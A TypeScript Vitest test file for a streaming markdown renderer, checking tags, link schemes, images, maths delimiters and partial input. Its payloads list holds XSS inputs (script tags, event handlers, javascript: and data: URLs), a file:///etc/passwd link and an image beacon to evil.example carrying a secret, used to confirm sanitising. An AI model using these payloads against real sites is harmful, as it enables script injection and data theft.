import { expect, test, vi } from 'vitest';
import { nodesOf } from './nodes';
import { allNodes, outline } from './outline';
import { holdBack } from './mend';
import { blockTokens } from './parser';

vi.stubGlobal('navigator', { languages: ['en'] });

function nodes(text: string, open = false) {
  const shown = open ? holdBack(text) : text;
  const references = {};
  return nodesOf(blockTokens(shown, references, open), references, open, new Map());
}
const drawn = (text: string, open = false) => outline(nodes(text, open));

const tags = new Set(['p', 'strong', 'em', 's', 'code', 'a', 'small', 'br', 'hr', 'ul', 'ol', 'li', 'blockquote', 'h3', 'h4', 'h5', 'h6', 'table', 'thead',
  'tbody', 'tr', 'th', 'td', 'div', 'span']);
const properties = new Set(['children', 'class', 'href', 'rel', 'target', 'start', 'tabIndex', 'aria-hidden']);

function expectHarmless(text: string, open: boolean) {
  for (const { type, props } of allNodes(nodes(text, open))) {
    if (typeof type === 'function') continue;
    expect(tags).toContain(type);
    // The compiler notes in development where a node was made.
    for (const name of Object.keys(props)) if (!name.startsWith('__')) expect(properties).toContain(name);
    if (type !== 'a') continue;
    expect(String(props.href)).toMatch(/^(https?|mailto):/);
    expect(props.rel).toBe('noopener noreferrer nofollow');
    expect(props.target).toBe('_blank');
  }
}

const payloads = [
  '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>',
  'text <b onclick="x()">bold</b> <svg/onload=alert(1)> <!-- x --> &lt;script&gt;',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>) [d](vbscript:x) [e](file:///etc/passwd) [f](/relative) [g](//host/x)',
  '[x]: javascript:alert(1)\n\n[x] and [y][x]',
  '<javascript:alert(1)> <https://ok.example> <a@b.example>',
  '![pixel](https://evil.example/?q=secret) ![](data:image/svg+xml,<svg>) [![in](https://evil.example/a.png)](https://evil.example/b)',
  '| a | <i>b</i> |\n|--|:-:|\n| [x](javascript:1) | <script>2</script> |',
  '```html\n<script>alert(1)</script>\n```\n\n`<img onerror=x>` **<b>**',
  '\\(\\href{javascript:alert(1)}{x}\\) $\\html{<script>}$ $$\\includegraphics{https://evil.example/x.png}$$',
  '[long](<java\nscript:alert(1)> "t") [t](https://a.example "\\" onclick=\\"x")',
  '<iframe src="https://evil.example">\n\n<style>*{display:none}</style>\n\n&#106;avascript&#58;alert(1)',
  '[a](https://ok.example/\\"onmouseover=alert(1)) https://bare.example/x<script>',
];

test('nothing in a text runs, and no address but a link\'s is in what is drawn, however much of it has come', () => {
  for (const payload of payloads) {
    expectHarmless(payload, false);
    for (let cut = 0; cut <= payload.length; cut++) expectHarmless(payload.slice(0, cut), true);
  }
});

test('links go to http, https and mailto only', () => {
  expect(drawn('[a](https://x.example/y) [b](mailto:a@b.example) [c](javascript:1) [d](/z)')).toBe(
    '<p><a https://x.example/y>a</a> <a mailto:a@b.example>b</a> [c](javascript:1) d</p>');
  expect(drawn('See https://x.example/a_(b), or http://y.example.')).toBe(
    '<p>See <a https://x.example/a_(b>https://x.example/a_(b</a>), or <a http://y.example/>http://y.example</a>.</p>');
});

test('a picture is a link that tells its host', () => {
  expect(drawn('![cat](https://pics.example/1.png)')).toBe('<p><a https://pics.example/1.png>cat <small>(pics.example)</small></a></p>');
});

test('blocks', () => {
  expect(drawn('# One\n\ntext **bold** *em* ~~gone~~ `code`  \nnext')).toBe(
    '<h3>One</h3><p>text <strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code><br></br>next</p>');
  expect(drawn('3. a\n4. b\n   - c')).toBe('<ol><li>a</li><li>b<ul><li>c</li></ul></li></ol>');
  expect(drawn('- [ ] open\n- [x] done')).toBe('<ul><li><span>☐</span> open</li><li><span>☑</span> done</li></ul>');
  expect(drawn('| a | b |\n|--|--:|\n| 1 | 2 |')).toBe(
    '<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>');
  expect(drawn('[r]: https://x.example\n\n[r]')).toBe('<p><a https://x.example/>r</a></p>');
  expect(drawn('```c++ x\nint a;\n```')).toBe('[CodeBlock c++|int a;\n]');
});

const mathsCases: [string, string][] = [
  ['\\(x^2\\)', '{x^2}'],
  ['a \\[x\\] b', 'a {display x} b'],
  ['a $$x$$ b', 'a {display x} b'],
  ['$x$', '{x}'],
  ['$x+1$, and $y$.', '{x+1}, and {y}.'],
  ['$5 to $9', '$5 to $9'],
  ['It costs $5 to $9, or $12.', 'It costs $5 to $9, or $12.'],
  ['$5 to $9 and $x$', '$5 to $9 and {x}'],
  ['$20,000 and USD$30,000', '$20,000 and USD$30,000'],
  ['$ x$ and $x $', '$ x$ and $x $'],
  ['$x$5', '$x$5'],
  ['\\$x$ and \\$y$', '$x$ and $y$'],
  ['`$x$` and `\\(y\\)`', '<code>$x$</code> and <code>\\(y\\)</code>'],
  ['$a `b$` c', '$a <code>b$</code> c'],
  ['\\\\(x\\\\)', '\\(x\\)'],
  ['\\(a_1 * b_2 * c\\)', '{a_1 * b_2 * c}'],
  ['$a_1$ and $b_2$', '{a_1} and {b_2}'],
  ['\\(\\)', '()'],
  ['$\\$5$', '{\\$5}'],
  ['价格是$x$元', '价格是$x$元'],
  ['设 $x$，则', '设 {x}，则'],
];

test('where maths is within a line', () => {
  for (const [text, wanted] of mathsCases) expect(drawn(text), text).toBe(`<p>${wanted}</p>`);
});

test('maths on lines of its own', () => {
  expect(drawn('$$\na\n- b\n$$')).toBe('{display a\n- b}');
  expect(drawn('so\n\\[\n a\n\n= b\n\\]\nthen')).toBe('<p>so</p>{display a\n\n= b}<p>then</p>');
  expect(drawn('\\begin{align}\na &= b\n\\end{align}')).toBe('{display \\begin{align}\na &= b\n\\end{align}}');
  expect(drawn('- item\n  $$\n  x\n  $$')).toBe('<ul><li>item{display x}</li></ul>');
  expect(drawn('```\n$$\nx\n$$\n```')).toBe('[CodeBlock |$$\nx\n$$\n]');
  expect(drawn('$$ never closed\n\nnext')).toBe('<p>$$ never closed</p><p>next</p>');
});

test('half of something is held back or finished', () => {
  const cases: [string, string][] = [
    ['text\n``', '<p>text</p>'],
    ['```js\ncode\n``', '[CodeBlock js|code\n]'],
    ['Title\n-', '<p>Title</p>'],
    ['a **bo', '<p>a <strong>bo</strong></p>'],
    ['a **bold*', '<p>a <strong>bold</strong></p>'],
    ['a `co', '<p>a <code>co</code></p>'],
    ['see [the ar', '<p>see the ar</p>'],
    ['see [it](https://x.exa', '<p>see it</p>'],
    ['\\(a_1 * b_2', '<p>\\(a_1 * b_2</p>'],
    ['so $x_1 * y', '<p>so $x_1 * y</p>'],
    ['it is $5 *now*', '<p>it is $5 <em>now</em></p>'],
    ['\\[\na *b* c', '<p>\\[\na *b* c</p>'],
  ];
  for (const [text, wanted] of cases) expect(drawn(text, true), text).toBe(wanted);
});
